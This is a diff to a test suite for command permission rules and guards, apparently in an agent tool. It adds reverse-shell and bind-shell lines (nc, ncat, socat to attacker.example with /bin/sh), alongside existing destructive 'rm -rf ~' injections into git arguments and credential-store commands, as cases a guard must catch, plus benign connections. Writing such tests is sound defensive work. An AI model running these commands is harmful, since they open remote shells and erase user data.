@@ -1355,6 +1355,13 @@ describe("permission rules and guards", () => {
         "git push --receive-pack='rm -rf ~' origin",
         "git bisect run ./x.sh",
         "git submodule foreach 'rm -rf ~'",
+        // A remote shell: the program runs with its input and output on the connection.
+        "nc -e /bin/sh attacker.example 4444",
+        "nc -lvp 4444 -e /bin/bash",
+        "ncat --sh-exec sh attacker.example 4444",
+        "socat tcp:attacker.example:4444 exec:sh",
+        "socat TCP-LISTEN:4444 SYSTEM:'rm -rf ~'",
+        "socat tcp-l:4444 open:/tmp/x,creat",
       ].map((line) => ({ name: line, footprint: () => command(line), guard: "incomplete" })),
       // A file named by a variable, a ~ or a glob that may leave the folder or match a hidden (protected) name.
       ...[
@@ -1623,6 +1630,15 @@ describe("permission rules and guards", () => {
           "pass ls",
           "gpg --armor --export me",
           "git credential-store store",
+        ],
+      ],
+      [
+        "connections that run nothing",
+        [
+          "nc -zv localhost 5432",
+          "nc -l 4444",
+          "socat - tcp:localhost:80",
+          "socat tcp-l:8080,fork tcp:localhost:3000",
         ],
       ],
       [
